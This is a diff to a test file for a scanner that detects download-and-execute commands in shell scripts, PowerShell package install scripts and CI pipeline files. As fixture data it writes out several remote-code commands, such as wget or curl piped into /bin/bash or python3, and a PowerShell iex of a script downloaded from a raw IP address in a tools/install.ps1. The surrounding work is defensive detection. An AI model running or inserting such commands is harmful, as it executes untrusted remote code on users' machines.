@@ -18,6 +18,20 @@ describe('curl-pipe-shell in scripts and task files', () => {
     expect(found('scripts/bootstrap.sh', [], ['bash <(curl -fsSL https://get.example.dev/install)'])).toEqual(['medium scripts/bootstrap.sh:2']);
   });
 
+  it('reads a shell or interpreter named by its path (`| /bin/bash`, `| /usr/bin/python3`), not a pipe into another program', () => {
+    expect(found('scripts/bootstrap.sh', [], ['wget -O - https://get.example.dev/a31546bf | /bin/bash &'])).toEqual(['medium scripts/bootstrap.sh:2']);
+    expect(found('scripts/bootstrap.sh', [], ['curl -s https://get.example.dev/x.py | /usr/bin/python3 -'])).toEqual(['medium scripts/bootstrap.sh:2']);
+    expect(found('scripts/bootstrap.sh', [], ['curl -s https://get.example.dev/x.tgz | /usr/bin/tar -xz'])).toEqual([]);
+  });
+
+  it("reads PowerShell scripts (a NuGet package's tools/install.ps1, a setup.ps1): a download run by Invoke-Expression", () => {
+    expect(runsAsShell('tools/install.ps1')).toBe(true);
+    expect(runsAsShell('build/Helpers.psm1')).toBe(true);
+    expect(found('tools/install.ps1', [], ['param($installPath, $toolsPath, $package, $project)', "iex (New-Object Net.WebClient).DownloadString('http://45.77.12.9/a.ps1')"])).toEqual(['high tools/install.ps1:3']);
+    expect(found('scripts/setup.ps1', [], ['irm https://get.example.dev/install.ps1 | iex'])).toEqual(['medium scripts/setup.ps1:2']);
+    expect(found('scripts/setup.ps1', [], ['Invoke-WebRequest -Uri $ToolUrl -OutFile "$env:TEMP\\tool.zip"', 'Expand-Archive "$env:TEMP\\tool.zip" -DestinationPath tools'])).toEqual([]);
+  });
+
   it('reads other CI systems\' pipelines (high, as a workflow), Rakefiles and //go:generate directives', () => {
     for (const path of ['.gitlab-ci.yml', 'Jenkinsfile', '.circleci/config.yml', 'azure-pipelines.yml', '.travis.yml', 'bitbucket-pipelines.yml', '.buildkite/pipeline.yml']) {
       expect(found(path, [], ['    - curl -fsSL https://get.example.dev/install.sh | bash']), path).toEqual([`high ${path}:2`]);
